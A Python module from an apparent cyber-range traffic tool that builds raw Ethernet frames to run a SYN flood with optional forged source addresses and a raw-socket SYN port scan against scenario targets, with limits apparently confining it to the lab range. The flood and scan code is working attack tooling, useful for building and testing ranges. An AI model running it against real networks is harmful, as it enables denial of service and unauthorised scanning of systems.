"""Packet-level generators: raw Ethernet frames from the node's namespace on one AF_PACKET socket.

Frames carry the node's own MAC and address and go to the next hop's MAC
(the scenario's router, or the target when it is on the same segment), so
they cross the range exactly as the node's own traffic would. Frame templates
are built with Scapy-compatible layouts (see :mod:`rangectl.traffic.packets`)
and patched per packet, so rates in the tens of thousands per second are
reachable.
"""

from __future__ import annotations

import ipaddress
import random
import socket
import struct
import time

from rangectl.netns import NextHop, next_hop_here, run_in_netns
from rangectl.scenario.traffic_params import PortscanParams, SynfloodParams
from rangectl.traffic.base import (
    Budget,
    PacketSocket,
    TrafficContext,
    TrafficError,
    TrafficResult,
    check_address,
    check_network,
    target_of,
    utcnow,
)
from rangectl.traffic.packets import PROTO_ICMP, PROTO_TCP, TCP_RST, TCP_SYN, SynTemplate

PACKET_OUTGOING = 4


def _hop(ctx: TrafficContext, dst: ipaddress.IPv4Address) -> NextHop:
    hop = next_hop_here(str(dst), src_ip=str(ctx.src_ip) if ctx.src_ip else None)
    if ctx.src_iface and ctx.src_iface != hop.ifname:
        raise TrafficError(f"{dst} is routed out of {hop.ifname}, not {ctx.src_iface}")
    return hop


# --- synflood ------------------------------------------------------------------------


def run_synflood(p: SynfloodParams, ctx: TrafficContext) -> TrafficResult:
    """Send up to ``count`` SYNs to ``dst:port`` at ``rate`` per second (optionally forged sources)."""
    dst = target_of(ctx, "synflood")
    spoof = None
    if p.spoof:
        spoof = ipaddress.IPv4Network(p.spoof)
        check_network(spoof, ctx)
    return run_in_netns(ctx.netns_path, _synflood_here, p, ctx, dst, spoof)


def _spoof_pool(net: ipaddress.IPv4Network, ctx: TrafficContext) -> list[bytes]:
    hosts = list(net.hosts()) if net.num_addresses > 2 else list(net)
    hosts = hosts[:65536]
    out = []
    for h in hosts:
        check_address(h, ctx, "forged source")
        out.append(h.packed)
    if not out:
        raise TrafficError(f"no usable source addresses in {net}")
    return out


def _synflood_here(
    p: SynfloodParams, ctx: TrafficContext, dst: ipaddress.IPv4Address, spoof: ipaddress.IPv4Network | None
) -> TrafficResult:
    hop = _hop(ctx, dst)
    pool = _spoof_pool(spoof, ctx) if spoof else None
    tmpl = SynTemplate(hop.src_mac, hop.hop_mac, hop.src_ip, dst)
    rnd = random.Random()
    budget = Budget(ctx, count=p.count, duration=p.duration, rate=None)
    sent = nbytes = 0
    sources: set[bytes] = set()
    started = utcnow()
    with PacketSocket(hop.ifname) as sock:
        t0 = time.monotonic()
        while sent < p.count:
            if budget.expired():
                break
            now = time.monotonic()
            due_total = min(p.count, int((now - t0) * p.rate) + 1)
            if due_total <= sent:
                wait = t0 + sent / p.rate - now
                time.sleep(min(max(wait, 0.0), 0.05))
                continue
            for _ in range(min(due_total - sent, 512)):
                src = pool[rnd.randrange(len(pool))] if pool else None
                frame = tmpl.frame(
                    rnd.randrange(1024, 65536), p.port, rnd.getrandbits(32), rnd.getrandbits(16), src=src
                )
                sock.send(frame)
                if src:
                    sources.add(src)
                sent += 1
                nbytes += len(frame)
        bypass = sock.qdisc_bypass
    ended = utcnow()
    stopped = "count" if sent >= p.count else budget.reason
    secs = max((ended - started).total_seconds(), 1e-9)
    return TrafficResult(
        kind="synflood",
        src_ip=str(hop.src_ip),
        dst_ip=str(dst),
        started=started,
        ended=ended,
        packets_sent=sent,
        bytes_sent=nbytes,
        stopped=stopped,
        counted="exact",
        src_iface=hop.ifname,
        details={
            "port": p.port,
            "rate_asked": p.rate,
            "rate_achieved": round(sent / secs, 1),
            "spoofed_from": str(spoof) if spoof else None,
            "distinct_sources": len(sources) if pool else 1,
            "next_hop": {"ip": str(hop.hop_ip), "mac": hop.hop_mac},
            "qdisc_bypass": bypass,
        },
    )


# --- SYN scan ---------------------------------------------------------------------------


def run_portscan_syn(p: PortscanParams, ctx: TrafficContext) -> TrafficResult:
    dst = target_of(ctx, "portscan")
    return run_in_netns(ctx.netns_path, _synscan_here, p, ctx, dst)


def _synscan_here(p: PortscanParams, ctx: TrafficContext, dst: ipaddress.IPv4Address) -> TrafficResult:
    hop = _hop(ctx, dst)
    ports = p.port_list
    rnd = random.Random()
    if p.randomize:
        rnd.shuffle(ports)
    sport = rnd.randrange(40000, 61000)
    seq_base = rnd.getrandbits(32)

    def seq_of(port: int) -> int:
        return (seq_base + port * 7919) & 0xFFFFFFFF

    tmpl = SynTemplate(hop.src_mac, hop.hop_mac, hop.src_ip, dst)
    state: dict[int, str] = {}
    dpack = dst.packed
    wanted = set(ports)

    rx = socket.socket(socket.AF_PACKET, socket.SOCK_RAW | socket.SOCK_CLOEXEC, socket.htons(0x0800))
    rx.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4 << 20)
    rx.bind((hop.ifname, 0x0800))
    rx.setblocking(False)

    def drain() -> None:
        while True:
            try:
                data, addr = rx.recvfrom(256)
            except (BlockingIOError, InterruptedError):
                return
            if addr[2] == PACKET_OUTGOING or len(data) < 34 or data[26:30] != dpack:
                continue
            ihl = (data[14] & 0x0F) * 4
            l4 = 14 + ihl
            proto = data[23]
            if proto == PROTO_TCP and len(data) >= l4 + 14:
                sp, dp, _seq, ack = struct.unpack_from("!HHII", data, l4)
                flags = data[l4 + 13]
                if dp != sport or sp not in wanted or ack != (seq_of(sp) + 1) & 0xFFFFFFFF:
                    continue
                if flags & TCP_SYN and flags & 0x10:
                    state[sp] = "open"
                elif flags & TCP_RST:
                    state.setdefault(sp, "closed")
            elif proto == PROTO_ICMP and len(data) >= l4 + 8 + 20 + 4 and data[l4] == 3:
                inner = l4 + 8
                iihl = (data[inner] & 0x0F) * 4
                if len(data) >= inner + iihl + 4 and data[inner + 9] == PROTO_TCP:
                    isp, idp = struct.unpack_from("!HH", data, inner + iihl)
                    if isp == sport and idp in wanted:
                        state.setdefault(idp, "filtered")

    budget = Budget(ctx, count=len(ports) * (1 + p.retries), duration=p.duration, rate=None)
    sent = nbytes = 0
    started = utcnow()
    stopped = "done"
    try:
        with PacketSocket(hop.ifname) as sock:
            t0 = time.monotonic()
            for attempt in range(1 + p.retries):
                todo = [pt for pt in ports if pt not in state]
                if not todo or stopped != "done":
                    break
                for port in todo:
                    if budget.expired():
                        stopped = budget.reason
                        break
                    due = t0 + sent / p.rate
                    while True:
                        drain()
                        left = due - time.monotonic()
                        if left <= 0:
                            break
                        time.sleep(min(left, 0.01))
                    frame = tmpl.frame(sport, port, seq_of(port), rnd.getrandbits(16))
                    sock.send(frame)
                    sent += 1
                    nbytes += len(frame)
                # answers to this pass
                end = time.monotonic() + min(p.timeout, budget.remaining())
                while time.monotonic() < end and len(state) < len(ports):
                    drain()
                    time.sleep(0.005)
                if attempt == p.retries:
                    break
            drain()
    finally:
        rx.close()
    ended = utcnow()
    open_ports = sorted(pt for pt, s in state.items() if s == "open")
    closed = sum(1 for s in state.values() if s == "closed")
    return TrafficResult(
        kind="portscan",
        src_ip=str(hop.src_ip),
        dst_ip=str(dst),
        started=started,
        ended=ended,
        packets_sent=sent,
        bytes_sent=nbytes,
        stopped=stopped,
        counted="exact",
        src_iface=hop.ifname,
        details={
            "method": "syn",
            "ports_probed": len(ports),
            "open": open_ports,
            "closed": closed,
            "filtered": len(ports) - len(open_ports) - closed,
            "source_port": sport,
            "next_hop": {"ip": str(hop.hop_ip), "mac": hop.hop_mac},
            "note": "the node's kernel answers each SYN-ACK with a RST; those are not counted in packets_sent",
        },
    )
